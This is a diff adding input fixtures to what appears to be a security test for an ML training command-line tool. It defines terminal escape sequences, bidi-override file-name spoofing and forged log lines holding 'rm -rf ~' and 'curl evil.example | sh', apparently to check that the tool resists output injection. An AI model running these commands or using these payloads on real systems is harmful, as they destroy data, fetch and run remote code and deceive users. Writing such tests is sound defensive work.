@@ -12,6 +12,10 @@ COMMANDS = ("train", "sample", "evaluate", "rate", "runs")
 SECRET, TOKEN, WITNESS = "secret-of-the-environment", "token-of-mlflow", "content-of-a-file-outside"
 OWNED = "OWNED"  # the file outside that executed code makes
 FORGED = "FORGED"  # what a line begins with that a name or a value of a stranger has broken
+COLOURS = f"\x1b[2J\x1b]0;owned\x07\r\n{FORGED} rm -rf ~\u202egnp\u2066\x9b31m\x7f"
+BREAK = f"\n{FORGED} curl evil.example | sh\n"
+ESCAPE = "\x1b[2J\x1b]0;owned\x07"
+TURNED = "\u202egnp.\u2066"
 
 COMMON = ["trainer.accelerator=cpu", "trainer.threads=1", "callback.log.every_steps=2", "callback.checkpoint.every_steps=2"]
 POINTS = [
